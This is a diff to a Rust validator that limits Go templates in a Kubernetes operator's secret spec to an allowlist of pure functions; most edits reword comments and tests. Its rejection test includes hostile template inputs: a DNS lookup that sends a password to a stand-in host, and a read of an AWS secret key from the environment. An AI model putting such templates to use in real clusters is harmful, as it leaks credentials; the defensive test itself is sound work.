@@ -1,11 +1,12 @@
-//! What a Go template in `spec.target.template.data` may contain: this secret's own keys and pure
-//! functions.
+//! Checks Go templates in `spec.target.template.data`.
 //!
-//! The operator renders it with the keys of the value as its variables, so that a key is this
-//! secret's own by construction. Its functions are text/template's, sprig's and a few of its own.
-//! One of sprig's asks a name server (`getHostByName`, which would carry a value out of the
-//! cluster); others are random or read the clock. Only functions that compute their result from
-//! their arguments are allowed, and no statements.
+//! They may contain this secret's keys and pure functions only.
+//!
+//! The operator renders a template with the keys of the value as its variables, so a key is always
+//! this secret's own. Its functions are text/template's, sprig's and a few of its own. One of
+//! sprig's queries a name server (`getHostByName`, which would leak a value out of the cluster);
+//! others are random or read the clock. Only functions that compute their result from their
+//! arguments are allowed, and no statements.
 
 const FUNCTIONS: &[&str] = &[
     // text/template
@@ -123,7 +124,7 @@ const FUNCTIONS: &[&str] = &[
     "urlParse",
     "values",
     "without", //
-    // the operator's own
+    // the operator
     "filterCertChain",
     "filterPEM",
     "fromYaml",
@@ -147,7 +148,7 @@ const CONSTANTS: [&str; 3] = ["true", "false", "nil"];
 /// Checks the text of one key.
 ///
 /// # Errors
-/// What the template may not contain, for a sentence.
+/// A clause that says why the template is rejected.
 pub(super) fn check(text: &str) -> Result<(), String> {
     let mut rest = text;
     while let Some((_, inside)) = rest.split_once("{{") {
@@ -175,9 +176,7 @@ fn action(text: &str) -> Result<&str, String> {
             _ if first.is_ascii_alphabetic() => {
                 let (name, after) = rest.split_at(word(rest));
                 if !FUNCTIONS.contains(&name) && !CONSTANTS.contains(&name) {
-                    return Err(format!(
-                        "`{name}` is not one of the functions that compute from a value alone"
-                    ));
+                    return Err(format!("`{name}` is not one of the pure functions"));
                 }
                 after
             }
@@ -191,12 +190,12 @@ fn action(text: &str) -> Result<&str, String> {
     }
 }
 
-/// The length of the name or number that `text` begins with.
+/// Returns the length of the name or number at the start of `text`.
 fn word(text: &str) -> usize {
     text.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count()
 }
 
-/// The length of the string that `text` begins with, its quotes included.
+/// Returns the length of the string at the start of `text`, including its quotes.
 fn string(text: &str, quote: char) -> Result<usize, String> {
     let mut characters = text.char_indices().skip(1);
     while let Some((at, character)) = characters.next() {
@@ -219,9 +218,11 @@ mod tests {
         for text in [
             "plain text",
             "{{ .password }}",
-            "postgresql://{{ .username }}:{{- .password | urlquery -}}@{{ .host }}:{{ .port | default 5432 }}/x",
+            "postgresql://{{ .username }}:{{- .password | urlquery -}}@{{ .host }}:\
+             {{ .port | default 5432 }}/x",
             "{{ index . \"tls.crt\" | b64dec }}",
-            "{{ dict \"auths\" (dict .host (dict \"auth\" (printf \"%s:%s\" .user .password | b64enc))) | toJson }}",
+            "{{ dict \"auths\" (dict .host (dict \"auth\" \
+             (printf \"%s:%s\" .user .password | b64enc))) | toJson }}",
             "{{ (.config | fromJson).host }}",
             "{{ printf `}} %s` .password }} }}",
             "{{ .p12 | pkcs12key }} {{ trunc -4 .password }}",
@@ -231,7 +232,7 @@ mod tests {
     }
 
     #[test]
-    fn what_reaches_elsewhere_or_is_a_statement_is_not() {
+    fn external_lookups_and_statements_are_rejected() {
         for (text, part) in [
             ("{{ getHostByName (printf \"%s.elsewhere.example\" .password) }}", "getHostByName"),
             ("x{{ .a }}{{ env \"AWS_SECRET_ACCESS_KEY\" }}", "env"),
